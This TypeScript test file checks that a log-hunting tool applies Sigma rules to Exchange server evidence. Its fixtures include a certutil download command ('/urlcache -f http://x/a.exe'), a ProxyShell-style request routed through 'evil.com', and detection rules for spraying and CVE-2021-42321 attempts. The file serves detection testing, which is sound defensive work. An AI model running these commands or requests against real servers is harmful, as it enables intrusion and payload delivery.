// Sigma inside `exhunt scan`: the user's rules (--sigma) reach worker threads through the hunt setup,
// --sigma-level filters, rules that cannot load are reported with the reason, matches carry the rule's
// metadata and author, and look-alike admin activity stays context (the verdict does not move).
import assert from "node:assert/strict";
import { mkdirSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { createHuntContext } from "../../src/detections/context.js";
import { WorkerPool } from "../../src/hunt/pool.js";
import { prepareHunt } from "../../src/hunt/setup.js";
import type { ReadTask, TaskResult } from "../../src/hunt/task.js";
import { scan, UsageError } from "../../src/index.js";
import { tempDir } from "../helpers.js";

const USER_RULE = `title: Test user rule - certutil urlcache
id: 11111111-2222-3333-4444-555555555555
author: Test Author
level: medium
references:
    - https://example.org/rule
tags:
    - attack.t1105
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\\certutil.exe'
        CommandLine|contains|windash: ' -urlcache '
    condition: selection
`;

const BROKEN_RULE = `title: Broken
id: 99999999-2222-3333-4444-555555555555
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|nosuchmodifier: x
    condition: selection
`;

function sysmonLine(recordId: number, data: Record<string, string>, eventId = 1): string {
  return `${JSON.stringify({
    Event: {
      System: {
        Provider: { "#attributes": { Name: "Microsoft-Windows-Sysmon" } },
        EventID: eventId,
        Level: 4,
        TimeCreated: { "#attributes": { SystemTime: "2021-03-03T07:00:00.0000000Z" } },
        EventRecordID: recordId,
        Channel: "Microsoft-Windows-Sysmon/Operational",
        Computer: "EXCH01.contoso.local",
      },
      EventData: data,
    },
  })}\n`;
}

function evidence(root: string): string {
  const dir = join(root, "EXCH01", "Events");
  mkdirSync(dir, { recursive: true });
  const file = join(dir, "sysmon.jsonl");
  writeFileSync(
    file,
    sysmonLine(1, {
      Image: "C:\\Windows\\System32\\certutil.exe",
      CommandLine: "certutil /urlcache -f http://x/a.exe a.exe",
      ParentImage: "C:\\Windows\\System32\\cmd.exe",
    }) +
      // False-positive trap: certutil without -urlcache, and -urlcache in another program.
      sysmonLine(2, {
        Image: "C:\\Windows\\System32\\certutil.exe",
        CommandLine: "certutil -hashfile a.exe SHA256",
        ParentImage: "C:\\Windows\\explorer.exe",
      }) +
      sysmonLine(3, {
        Image: "C:\\Tools\\other.exe",
        CommandLine: "other -urlcache x",
        ParentImage: "C:\\Windows\\explorer.exe",
      }),
  );
  return file;
}

describe("sigma in scan", () => {
  test("the user's rules reach a worker thread and match there", async (t) => {
    const root = tempDir(t);
    const rules = join(root, "rules");
    mkdirSync(rules);
    writeFileSync(join(rules, "user.yml"), USER_RULE);
    const file = evidence(root);
    const setup = prepareHunt({ sigma: [rules], sigmaBundled: false });
    // Parsed by the main thread (no cache here): the worker gets the parse, not only the text.
    const user = setup.sigma?.user ?? [];
    assert.ok(user.length === 1 && user.every((s) => s.parsed !== undefined));
    const hunt = createHuntContext(setup);
    const pool = new WorkerPool(1, hunt, false); // no main lane: the task can only run in the worker
    try {
      const size = statSync(file).size;
      const task: ReadTask = {
        id: 1,
        abs: file,
        rel: "Events/sysmon.jsonl",
        size,
        fileKind: null,
        start: 0,
        end: size,
        rangeHeaderFields: null,
        ctx: { server: "TEST", file: "Events/sysmon.jsonl", installPath: null },
        maxDraftsPerCheck: 100,
      };
      const [r] = (await pool.run([task])) as TaskResult[];
      assert.equal(pool.mainJobs, 0);
      const sigma = r.drafts.filter((d) => d.check.startsWith("sigma"));
      assert.equal(sigma.length, 1, JSON.stringify(r.drafts));
      assert.equal(sigma[0].evidence.SigmaAuthor, "Test Author");
      assert.equal(sigma[0].evidence.RecordId, "1");
      assert.equal(sigma[0].rule?.id, "11111111-2222-3333-4444-555555555555");
    } finally {
      await pool.close();
    }
  });

  test("scan: a user rule's finding carries the rule's metadata; the bundled rules stay quiet here", async (t) => {
    const root = tempDir(t);
    const rules = join(root, "rules");
    mkdirSync(rules);
    writeFileSync(join(rules, "user.yml"), USER_RULE);
    evidence(root);
    const result = await scan([join(root, "EXCH01")], { sigma: [rules], workers: 0 });
    const s = result.servers[0];
    const f = s.findings.filter((x) => x.check.startsWith("sigma"));
    assert.equal(f.length, 1);
    assert.equal(f[0].check, "sigma-match:11111111-2222-3333-4444-555555555555");
    assert.equal(f[0].effect, "context");
    assert.equal(f[0].title, "Sigma: Test user rule - certutil urlcache (by Test Author)");
    assert.equal(f[0].severity, "medium");
    assert.equal(f[0].evidence.SigmaTags, "attack.t1105");
    assert.equal(f[0].evidence.SigmaReferences, "https://example.org/rule");
    assert.match(f[0].evidence.CommandLine, /urlcache/);
    // A context finding alone does not make the server attempted or compromised.
    assert.notEqual(s.verdict, "compromised");
    assert.notEqual(s.verdict, "attempted");
  });

  test("--sigma-level drops rules below it; an unknown level is a usage error", async (t) => {
    const root = tempDir(t);
    const rules = join(root, "rules");
    mkdirSync(rules);
    writeFileSync(join(rules, "user.yml"), USER_RULE);
    evidence(root);
    const result = await scan([join(root, "EXCH01")], { sigma: [rules], sigmaLevel: "high", workers: 0 });
    assert.equal(result.servers[0].findings.filter((x) => x.check.startsWith("sigma")).length, 0);
    await assert.rejects(scan([join(root, "EXCH01")], { sigmaLevel: "severe", workers: 0 }), UsageError);
  });

  test("a rule that cannot load is reported with the exact reason; a missing folder is a usage error", async (t) => {
    const root = tempDir(t);
    const rules = join(root, "rules");
    mkdirSync(rules);
    writeFileSync(join(rules, "broken.yml"), BROKEN_RULE);
    writeFileSync(join(rules, "user.yml"), USER_RULE);
    evidence(root);
    const result = await scan([join(root, "EXCH01")], { sigma: [rules], workers: 0 });
    const s = result.servers[0];
    const sk = s.skipped.find((k) => k.file.endsWith("broken.yml"));
    assert.ok(sk, JSON.stringify(s.skipped));
    assert.match(
      sk.detail ?? "",
      /99999999-2222-3333-4444-555555555555.*unsupported.*modifier 'nosuchmodifier'/,
    );
    assert.equal(s.findings.filter((x) => x.check.startsWith("sigma")).length, 1, "the good rule still ran");
    await assert.rejects(
      scan([join(root, "EXCH01")], { sigma: [join(root, "nope")], workers: 0 }),
      UsageError,
    );
  });
});

describe("sigma webserver rules in scan", () => {
  test("a small rule set is gated by its literals in the one-pass search, and still finds its row", async (t) => {
    const root = tempDir(t);
    const rules = join(root, "rules");
    mkdirSync(rules);
    writeFileSync(
      join(rules, "web.yml"),
      "title: ProxyShell-like\nid: 33333333-2222-3333-4444-555555555555\nauthor: W\nlevel: medium\nlogsource:\n    category: webserver\n" +
        "detection:\n    s:\n        cs-uri-query|contains|all:\n            - '/autodiscover.json'\n            - '/mapi/nspi'\n    condition: s\n",
    );
    const dir = join(root, "EXCH01", "inetpub", "logs", "LogFiles", "W3SVC1");
    mkdirSync(dir, { recursive: true });
    const row = (stem: string, query: string) =>
      `2021-08-10 06:49:44 10.0.0.5 GET ${stem} ${query} 443 - 198.51.100.7 python-requests/2.25.1 - 200 0 0 12\r\n`;
    writeFileSync(
      join(dir, "u_ex210810.log"),
      "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n" +
        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n" +
        row(
          "/autodiscover/autodiscover.json",
          "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com",
        ) +
        row("/autodiscover/autodiscover.json", "Email=user@contoso.com") +
        row("/owa/", "-"),
    );
    const result = await scan([join(root, "EXCH01")], { sigma: [rules], sigmaBundled: false, workers: 0 });
    const f = result.servers[0].findings.filter((x) => x.check.startsWith("sigma"));
    assert.equal(f.length, 1);
    assert.equal(f[0].source.line, 4);
    assert.equal(f[0].rule.author, "W");
  });
});

describe("MSExchange Management event 8 through the bundled rules", () => {
  test("a message-only 'Task Get-App throwing unhandled exception: InvalidCastException' is the CVE-2021-42321 attempt; another exception is not", async (t) => {
    const root = tempDir(t);
    const dir = join(root, "EXCH01", "Events");
    mkdirSync(dir, { recursive: true });
    const line = (id: number, message: string) =>
      JSON.stringify({
        EventID: 8,
        SourceName: "MSExchange CmdletLogs",
        Channel: "MSExchange Management",
        Hostname: "EXCH01",
        EventTime: "2021-11-20T10:00:00Z",
        RecordNumber: id,
        Message: message,
      });
    writeFileSync(
      join(dir, "mgmt.json"),
      `${line(1, "Task Get-App throwing unhandled exception: System.InvalidCastException: Unable to cast object")}\n${line(2, "Task Get-App throwing unhandled exception: System.ArgumentException: bad identity")}\n`,
    );
    const s = (await scan([join(root, "EXCH01")], { workers: 0 })).servers[0];
    assert.equal(s.stats.records, 2);
    const hits = s.findings.filter((f) => f.rule.id === "c92f1896-d1d2-43c3-92d5-7a5b35c217bb");
    assert.equal(hits.length, 1);
    assert.equal(hits[0].effect, "attempt");
    assert.equal(hits[0].evidence.RecordId, "1");
    assert.match(hits[0].rule.author ?? "", /Florian Roth/);
  });
});

const CORRELATION_RULES = `title: Failed logon
id: 10000000-0000-0000-0000-000000000001
name: failed_logon
author: T
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 4625
    condition: selection
---
title: Many failed logons from one address
id: 10000000-0000-0000-0000-000000000002
author: Corr Author
level: high
correlation:
    type: event_count
    rules:
        - failed_logon
    group-by:
        - IpAddress
    timespan: 5m
    condition:
        gte: 3
---
title: Password spraying
id: 10000000-0000-0000-0000-000000000003
author: Spray Author
level: medium
correlation:
    type: value_count
    rules:
        - 10000000-0000-0000-0000-000000000001
    group-by:
        - IpAddress
    timespan: 10m
    condition:
        field: TargetUserName
        gte: 3
`;

describe("Sigma correlation rules in a scan", () => {
  function failedLogon(id: number, ip: string, user: string, minute: number): string {
    return `${JSON.stringify({
      Event: {
        System: {
          Provider: { "#attributes": { Name: "Microsoft-Windows-Security-Auditing" } },
          EventID: 4625,
          TimeCreated: {
            "#attributes": { SystemTime: new Date(Date.UTC(2021, 2, 3, 6, minute)).toISOString() },
          },
          EventRecordID: id,
          Channel: "Security",
          Computer: "EXCH01.contoso.local",
        },
        EventData: { IpAddress: ip, TargetUserName: user, LogonType: "3" },
      },
    })}\n`;
  }

  test("counted over every file of the server (and across worker threads): findings with the correlation's author; base rules make none", async (t) => {
    const root = tempDir(t);
    const rules = join(root, "rules");
    mkdirSync(rules);
    writeFileSync(join(rules, "corr.yml"), CORRELATION_RULES);
    const dir = join(root, "EXCH01", "Events");
    mkdirSync(dir, { recursive: true });
    // 10.0.0.1: three failures within 5 minutes, split over two files, three users → both rules.
    // Traps: 10.0.0.2 fails twice, then once 20 minutes later (never 3 in 5 minutes, one user).
    writeFileSync(
      join(dir, "a.jsonl"),
      failedLogon(1, "10.0.0.1", "alice", 0) +
        failedLogon(2, "10.0.0.2", "bob", 0) +
        failedLogon(3, "10.0.0.2", "bob", 1),
    );
    writeFileSync(
      join(dir, "b.jsonl"),
      failedLogon(4, "10.0.0.1", "carol", 2) +
        failedLogon(5, "10.0.0.1", "dave", 4) +
        failedLogon(6, "10.0.0.2", "bob", 25),
    );
    for (const workers of [0, 2]) {
      const s = (await scan([join(root, "EXCH01")], { sigma: [rules], sigmaBundled: false, workers }))
        .servers[0];
      const sigma = s.findings.filter((f) => f.check.startsWith("sigma"));
      assert.deepEqual(
        sigma.map((f) => f.rule.id).sort(),
        ["10000000-0000-0000-0000-000000000002", "10000000-0000-0000-0000-000000000003"],
        `workers ${workers}`,
      );
      const count = sigma.find((f) => f.rule.id.endsWith("2"));
      assert.ok(count);
      assert.equal(count.rule.author, "Corr Author");
      assert.match(count.title, /by Corr Author/);
      assert.equal(count.evidence.Count, "3");
      assert.equal(count.evidence.GroupBy, "IpAddress=10.0.0.1");
      assert.equal(count.evidence.First, "2021-03-03T06:00:00.000Z");
      assert.equal(count.subject.kind, "correlation");
      assert.equal(count.source.file, "Events/a.jsonl");
      assert.equal(count.source.record, 1);
      assert.equal(count.effect, "context", "not in the documented effect table");
      const spray = sigma.find((f) => f.rule.id.endsWith("3"));
      assert.equal(spray?.rule.author, "Spray Author");
      assert.equal(spray?.evidence.Count, "3");
      // Context findings: listed, they do not raise the verdict.
      assert.ok(!["compromised", "attempted"].includes(s.verdict), s.verdict);
    }
  });
});
